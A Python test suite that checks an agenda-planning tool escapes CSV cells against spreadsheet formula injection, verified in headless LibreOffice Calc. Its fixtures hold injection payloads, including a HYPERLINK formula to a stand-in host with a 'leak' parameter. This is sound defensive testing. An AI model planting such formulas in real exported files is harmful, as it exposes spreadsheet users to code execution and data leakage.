"""CSV formula injection (OWASP): no cell of a CSV egmplan writes runs as a spreadsheet formula.

The proof opens the files in LibreOffice Calc (headless, converted to flat ODS) and reads
each cell back: a text cell showing the title, never a formula or its result. A control
file written without the escaping shows the check can fail.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from typer.testing import CliRunner

from egmplan.cli.main import app
from egmplan.loader import load_meeting_text
from egmplan.planning.schedule import build_schedule
from egmplan.render import csvtext
from egmplan.render.schedule import ScheduleInput
from egmplan.render.schedule.csvout import render as schedule_csv

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
# Calc is a package of its own (libreoffice-calc-nogui); the writer-only install lacks it.
CALC = SOFFICE is not None and (Path(SOFFICE).resolve().parent / "libsclo.so").exists()

FORMULAS = """\
meeting:
  body: Expert Group on Testing
  number: 3
  venue: Vienna
  timezone: Europe/Vienna
  dates: {start: 2021-04-06, end: 2021-04-07}
sittings:
  default:
    - {start: "10:00", end: "13:00"}
    - {start: "15:00", end: "18:00"}
agenda:
  - title: "=1+1"
  - title: "+1+1"
  - title: "-1+1"
  - title: "@SUM(1,1)"
  - title: '=HYPERLINK("http://example.org/?leak=1","Click")'
  - title: "Adoption of the report"
organization_of_work:
  2021-04-06:
    - ["1", "2"]
    - ["3", "4"]
  2021-04-07:
    - ["5"]
    - ["6"]
tracks:
  - name: "=2+2"
    agenda:
      - title: "-2-2"
    organization_of_work:
      2021-04-06:
        - ["1"]
        - []
"""

# (title, track) of each row, as a spreadsheet must show them: the OWASP quote in front.
SHOWN = [
    ("'=1+1", ""),
    ("'+1+1", ""),
    ("'-2-2", "'=2+2"),
    ("'-1+1", ""),
    ("'@SUM(1,1)", ""),
    ("'=HYPERLINK(\"http://example.org/?leak=1\",\"Click\")", ""),
    ("Adoption of the report", ""),
]


@pytest.fixture
def orgwork_csv(tmp_path, monkeypatch) -> Path:
    (tmp_path / "meetings").mkdir()
    (tmp_path / "meetings" / "formulas.yaml").write_text(FORMULAS, encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(app, ["agenda", "build", "formulas", "-f", "csv", "-o", "out", "-q"])
    assert result.exit_code == 0, result.output
    return tmp_path / "out" / "formulas" / "orgwork.csv"


_NS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}


def _calc_cells(tmp_path: Path, *sources: Path) -> list[list[list[tuple[str | None, str, str]]]]:
    """Each file's cells as LibreOffice Calc reads them, formulas evaluated:
    (formula or None, value type, text shown) per cell, per row, per file."""
    profile = tmp_path / "profile"  # a private profile: no clash with a running office
    out = tmp_path / "calc"
    done = subprocess.run(
        [SOFFICE, f"-env:UserInstallation={profile.as_uri()}", "--headless",
         "--infilter=CSV:44,34,76,1", "--convert-to", "fods", "--outdir", str(out), *map(str, sources)],
        capture_output=True, text=True, timeout=300,
    )
    sheets = []
    for source in sources:
        converted = out / (source.stem + ".fods")
        assert converted.is_file(), done.stdout + done.stderr
        rows = []
        for row in ET.parse(converted).iter(f"{{{_NS['table']}}}table-row"):
            rows.append([
                (cell.get(f"{{{_NS['table']}}}formula"), cell.get(f"{{{_NS['office']}}}value-type", ""),
                 "\n".join("".join(p.itertext()) for p in cell.findall("text:p", _NS)))
                for cell in row.findall("table:table-cell", _NS)
            ])
        sheets.append(rows)
    return sheets


@pytest.mark.skipif(not CALC, reason="LibreOffice Calc is not installed; "
                    "apt-get install libreoffice-calc-nogui to run the spreadsheet test")
def test_libreoffice_reads_every_hostile_title_as_text_not_as_a_formula(tmp_path, orgwork_csv):
    # The control: the same rows written without the escaping, which Calc must run.
    raw = list(csv.reader(io.StringIO(orgwork_csv.read_text(encoding="utf-8"))))
    unescaped = tmp_path / "unescaped.csv"
    with unescaped.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file, lineterminator="\r\n").writerows(
            [cell[1:] if cell.startswith("'") else cell for cell in row] for row in raw
        )

    escaped_sheet, unescaped_sheet = _calc_cells(tmp_path, orgwork_csv, unescaped)

    assert unescaped_sheet[1][6] == ("of:=1+1", "float", "2")  # the check can fail
    header = [text for _, _, text in escaped_sheet[0]]
    title, track = header.index("title"), header.index("track")
    rows = escaped_sheet[1:]
    assert [(row[title][0], row[title][1]) for row in rows] == [(None, "string")] * len(SHOWN)
    assert [(row[title][2], row[track][2] if len(row) > track else "") for row in rows] == SHOWN
    assert all(formula is None for row in escaped_sheet for formula, _, _ in row)


def test_orgwork_csv_quotes_what_needs_quoting_and_reads_back_whole(orgwork_csv):
    rows = list(csv.DictReader(io.StringIO(orgwork_csv.read_text(encoding="utf-8"), newline="")))
    assert [(r["title"], r["track"]) for r in rows] == SHOWN
    assert orgwork_csv.read_bytes().splitlines()[5:7] == [
        b"2021-04-06,2,15:00,18:00,3\xe2\x80\x936 p.m.,4,\"'@SUM(1,1)\",false,",
        b"2021-04-07,1,10:00,13:00,10 a.m.\xe2\x80\x931 p.m.,5,"
        b"\"'=HYPERLINK(\"\"http://example.org/?leak=1\"\",\"\"Click\"\")\",false,",
    ]


def test_schedule_csv_escapes_user_text_and_keeps_signed_numbers():
    meeting = load_meeting_text(FORMULAS).meeting
    schedule = build_schedule(dataclasses.replace(meeting, id="=1+1"), ["America/Sao_Paulo"])
    rows = list(csv.reader(io.StringIO(schedule_csv(ScheduleInput(schedule)))))
    assert rows[1] == ["'=1+1", "America/Sao_Paulo", "2021-04-06", "1", "2021-04-06T10:00:00+02:00",
                       "2021-04-06T13:00:00+02:00", "2021-04-06T05:00:00-03:00", "2021-04-06T08:00:00-03:00",
                       "0", "-03", "-03:00", "night", "false", ""]


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("+cmd", "'+cmd"), ("-1", "-1"), ("-1+1", "'-1+1"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("-05:00", "-05:00"),
    ("+0530", "+0530"), ("-2.5", "-2.5"), (-1, "-1"), (None, ""), ("a=1", "a=1"), ("", ""),
])
def test_one_cell_rule(value, written):
    assert csvtext.cell(value) == written


def test_every_csv_writer_goes_through_the_one_cell_rule():
    source = Path(csvtext.__file__).resolve().parent.parent
    writers = sorted(str(p.relative_to(source)) for p in source.rglob("*.py") if "csv.writer" in p.read_text())
    assert writers == ["render/csvtext.py"]
